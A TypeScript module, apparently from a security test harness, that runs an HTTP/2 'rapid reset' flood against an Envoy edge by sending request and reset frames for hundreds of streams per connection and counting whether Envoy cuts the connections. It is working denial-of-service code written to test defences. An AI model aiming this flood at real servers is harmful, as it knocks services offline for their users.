/** Attack 6: streams opened at Envoy and reset in the same packet, without a credential. */

import { ATTACKER_ADDRESS, type Attack, count, paced, type Tally } from '../attack.ts';
import { openRaw, requestFrames, resetFrame } from '../raw-http2.ts';

const STREAMS = 48_000;
/** Envoy ends a connection of which more than half of the first 500 streams were reset early. */
const STREAMS_PER_CONNECTION = 400;
const MAX_CONNECTIONS_PER_SECOND = 16;
const LINGER_MS = 200;

export const rapidReset: Attack = {
  number: 6,
  title: 'streams opened and reset',
  mayFail: 0.001,
  async run({ edge }, _ammunition, untilMs) {
    const tally: Tally = {};
    const seconds = Math.max(1, (untilMs - Date.now()) / 1000);
    const perSecond = Math.min(MAX_CONNECTIONS_PER_SECOND, STREAMS / STREAMS_PER_CONNECTION / seconds);
    await paced(perSecond, untilMs, async () => {
      try {
        const connection = await openRaw(edge, ATTACKER_ADDRESS);
        const frames: Buffer[] = [];
        for (let i = 0; i < STREAMS_PER_CONNECTION; i++) {
          const stream = connection.nextStream();
          frames.push(...requestFrames(stream, { method: 'GET', path: '/v1/models' }), resetFrame(stream));
        }
        connection.write(frames);
        await new Promise((done) => setTimeout(done, LINGER_MS));
        count(tally, 'streams reset', STREAMS_PER_CONNECTION);
        count(tally, connection.isOver() ? 'connections ended by Envoy' : 'connections kept');
        connection.close();
      } catch {
        count(tally, 'connections refused');
      }
    });
    return tally;
  },
};
